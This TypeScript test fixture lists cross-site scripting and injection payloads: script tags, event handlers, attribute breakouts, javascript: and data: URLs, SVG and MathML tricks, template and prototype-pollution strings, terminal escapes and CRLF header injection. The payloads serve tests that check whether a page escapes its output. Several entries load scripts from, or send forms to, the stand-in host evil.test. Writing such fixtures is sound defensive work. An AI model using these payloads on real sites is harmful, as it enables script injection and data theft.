/** In every payload, so that a test sees that a screen shows it. */
export const MARK = 'zq7'

const LONG = 5_000
const RUN = 'window.__pwned=1'
const EVIL = 'https://evil.test'

/** Texts that a page which does not escape them would execute, load, or show as something else. */
export const PAYLOADS: readonly string[] = [
  // Elements with scripts.
  `<script>${RUN}</script>`,
  `<SCRIPT data-pwned>${RUN}</SCRIPT >`,
  `<script data-pwned src=${EVIL}/x.js></script>`,
  `"><script data-pwned>${RUN}</script>`,
  `</script><script data-pwned>${RUN}//`,
  `</title><script data-pwned>${RUN}</script>`,
  `</textarea><script data-pwned>${RUN}</script>`,
  `</style><script data-pwned>${RUN}</script>`,
  `--><script data-pwned>${RUN}</script>`,
  `]]><script data-pwned>${RUN}</script>`,
  `<scr<script>ipt data-pwned>${RUN}</script>`,
  `<noscript><p title="</noscript><img data-pwned src=x onerror=${RUN}>">`,
  `<template><script data-pwned>${RUN}</script></template>`,
  // Event handlers.
  `<img data-pwned src=x onerror=${RUN}>`,
  `<img data-pwned src=${EVIL}/pixel.png>`,
  `<img data-pwned src="x\`\`onerror=${RUN}">`,
  `<img/data-pwned/src/onerror=${RUN}>`,
  `<body data-pwned onload=${RUN}>`,
  `<b data-pwned onmouseover=${RUN} style="position:fixed;inset:0">over</b>`,
  `<input data-pwned autofocus onfocus=${RUN}>`,
  `<details data-pwned open ontoggle=${RUN}>`,
  `<video data-pwned><source onerror=${RUN}></video>`,
  `<audio data-pwned src=x onerror=${RUN}>`,
  `<marquee data-pwned onstart=${RUN}>`,
  `<select data-pwned autofocus onfocus=${RUN}>`,
  // Out of an attribute.
  `" onmouseover="${RUN}" data-pwned="`,
  `' onmouseover='${RUN}' data-pwned='`,
  `" autofocus onfocus=${RUN} data-pwned x="`,
  `\` onmouseover=${RUN} data-pwned \``,
  // Addresses.
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  ` javascript:${RUN}`,
  `javascript://example.test/%0a${RUN}`,
  `data:text/html,<script>parent.__pwned=1</script>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+`,
  `vbscript:msgbox(1)`,
  `//evil.test/x`,
  `https://evil.test\\@one.test/`,
  `<a data-pwned href="javascript:${RUN}">a</a>`,
  `[a link](javascript:${RUN}) ![](${EVIL}/pixel.png)`,
  `<iframe data-pwned src="javascript:parent.__pwned=1"></iframe>`,
  `<iframe data-pwned srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
  `<object data-pwned data="${EVIL}/x.swf"></object><embed data-pwned src="${EVIL}/x.swf">`,
  `<form data-pwned action=${EVIL}><button>send</button></form>`,
  `<base data-pwned href=${EVIL}/>`,
  `<meta data-pwned http-equiv=refresh content="0;url=${EVIL}">`,
  `<link data-pwned rel=stylesheet href=${EVIL}/x.css>`,
  // SVG and MathML.
  `<svg data-pwned onload=${RUN}>`,
  `<svg data-pwned><script>${RUN}</script></svg>`,
  `<svg data-pwned><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg data-pwned><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>#x"/></svg>`,
  `<math data-pwned><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>`,
  // Styles.
  `<style data-pwned>body{display:none}</style>`,
  `<div data-pwned style="background:url(${EVIL}/x.png)">`,
  `red;background:url(${EVIL}/x.png)`,
  `*{background:url(${EVIL}/x.png)}`,
  // Templates and prototypes.
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  '__proto__',
  'constructor',
  '{"__proto__": {"polluted": 1}}',
  // Unicode.
  `\u202etxet desrever\u202c`,
  `\u2066\u2067\u2068 isolates without an end`,
  `\u200b\u200c\u200d\ufeff zero widths`,
  `Z${'\u0351\u0300\u036f'.repeat(40)} marks above each other`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `\u2028line\u2029paragraph`,
  '👩‍👩‍👧‍👦🏴‍☠️'.repeat(20),
  // Terminals.
  `\u001b[31mred\u001b[0m \u001b]0;a title\u0007 \u001b[2J\u001b[H`,
  `\u001b]8;;javascript:${RUN}\u0007a link\u001b]8;;\u0007`,
  `\u001b[31m<img data-pwned src=x onerror=${RUN}>\u001b[0m`,
  `\u001b[38;5;999m\u001b[999999999m\u001b[48;2;1;2`,
  `\r\n\b\b\u0001\u007f`,
  // Lengths.
  'a'.repeat(LONG),
  'two words '.repeat(LONG / 10),
  'https://one.test/' + 'path/'.repeat(LONG / 5),
  '%s%n%x %0d%0aSet-Cookie:x=1',
  'null',
  'undefined',
  '[object Object]',
].map((payload) => `${payload}${payload.endsWith('=') ? '"' : ''} ${MARK}`)
